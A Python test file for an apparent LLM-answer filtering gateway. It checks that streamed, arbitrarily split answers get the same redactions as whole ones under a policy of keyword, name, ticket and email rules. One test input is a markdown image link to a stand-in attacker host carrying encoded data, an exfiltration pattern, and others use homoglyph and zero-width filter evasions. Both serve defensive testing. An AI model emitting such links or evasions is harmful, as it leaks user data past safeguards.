"""Rules of the operator on answers: for every way of cutting one, the client gets what a whole answer would give."""

import random

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from test_holdback import cut, streamed, whole

from promptguard_gateway.core.detector import specs_of
from promptguard_gateway.core.findings import digest_of
from promptguard_gateway.core.plan import AnswerPlan
from promptguard_gateway.core.segments import Column
from promptguard_gateway.detectors.catalogue import DETECTORS
from promptguard_gateway.domain.catalogue import Catalogue
from promptguard_gateway.domain.policy_document import PolicyDocument, compile_policy
from promptguard_gateway.domain.strict_tree import convert

DOCUMENT = f"""
preset: strict
guardrails: {{pii_detection: {{entities: [email]}}}}
rules:
  - {{name: falcon, type: output_filter, condition: contains_text, value: Project Falcon, action: redact}}
  - {{name: names, type: entity_blocklist, value: [Ann Lee, Ann, Élan Vital], action: redact}}
  - {{name: tickets, condition: regex, value: 'INC-[0-9]{{2,7}}|(?i)case (?:no|number)[.:]? [0-9]+', action: redact}}
  - {{name: stop, condition: contains_text, value: stop here now}}
  - {{name: trial, condition: contains_text, value: falcon is, status: candidate}}
  - {{name: odd, condition: regex, value: 'odd .{{0,20}}end', action: flag}}
  - {{name: ours, condition: contains_text, value: help@example.com, action: allow, detectors: [pii.email]}}
suppressions:
  - {{detector: pii.email, match_sha256: {digest_of("b@example.org")}}}
candidates: [link.exfiltration]
"""
CATALOGUE = Catalogue({one.id: one for each in DETECTORS for one in specs_of(each)})
COMPILED = compile_policy(convert(yaml.safe_load(DOCUMENT), PolicyDocument), CATALOGUE)
CHOSEN = [each for each in DETECTORS if each.spec.id in ("pii.email", "link.exfiltration", "secrets.jwt")]
PLAN = AnswerPlan.compile([*CHOSEN, *COMPILED.detectors], COMPILED.policy, Column.ANSWER)

TEXTS = [
    "about Project  Falcon and project\nfalcon is it, Project Falco",
    "ask Ann Lee or Ann or Annie, at Élan Vital or e\u0301lan vital",
    "INC-1 INC-12 INC-1234567 INC-12345678 Case No. 123456 case number 7x",
    "help@example.com, help@example.community and b@example.org, a@example.org",
    "odd one end odd two and three and four end",
    "Project Falcon stop here now Project Falcon",
    "mail Ann@example.com about INC-77, or Project Falcon@example.com",
    "stop here no",
    "![x](https://evil.example/p.png?d=" + "QUJD" * 20 + ") for Ann Lee",
    "Ｐｒｏｊｅｃｔ Ｆａｌｃｏｎ and Рrоjесt Fаlсоn and Pro\u200bject Falcon",
]


@pytest.mark.parametrize("text", TEXTS)
def test_cutting_changes_nothing(text: str) -> None:
    """One character at a time, every single cut, and many cuts in three."""
    expected = whole(PLAN, text)
    assert streamed(PLAN, list(text)) == expected
    for place in range(len(text)):
        assert streamed(PLAN, cut(text, (place,))) == expected
    sample = random.Random(text)
    for _ in range(40):
        places = (sample.randint(0, len(text)), sample.randint(0, len(text)))
        assert streamed(PLAN, cut(text, places)) == expected


SCRAPS = st.sampled_from([text[start : start + 14] for text in TEXTS for start in range(0, len(text), 7)])


@settings(max_examples=150, deadline=None, derandomize=True)
@given(text=st.lists(SCRAPS | st.text(max_size=3), max_size=12).map("".join), data=st.data())
def test_arbitrary_texts_and_cuts(text: str, data: st.DataObject) -> None:
    """Texts made of scraps of these, cut anywhere."""
    places = tuple(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    expected = whole(PLAN, text)
    assert streamed(PLAN, cut(text, places)) == expected
    assert streamed(PLAN, list(text)) == expected


@pytest.mark.parametrize(
    ("text", "sent"),
    [
        ("about Project  Falcon, project falcon is it", "about [FALCON_REDACTED], [FALCON_REDACTED] is it"),
        ("ask Ann Lee or Annie", "ask [NAMES_REDACTED] or Annie"),
        ("INC-1 INC-12 case no. 3x", "INC-1 [TICKETS_REDACTED] [TICKETS_REDACTED]x"),
        ("help@example.com b@example.org a@example.org", "help@example.com b@example.org [EMAIL_REDACTED]"),
        ("go on. Stop here  now, or", "go on. "),
    ],
)
def test_what_leaves(text: str, sent: str) -> None:
    """Rules redact and block, exceptions and suppressions let through."""
    assert whole(PLAN, text)[0] == sent
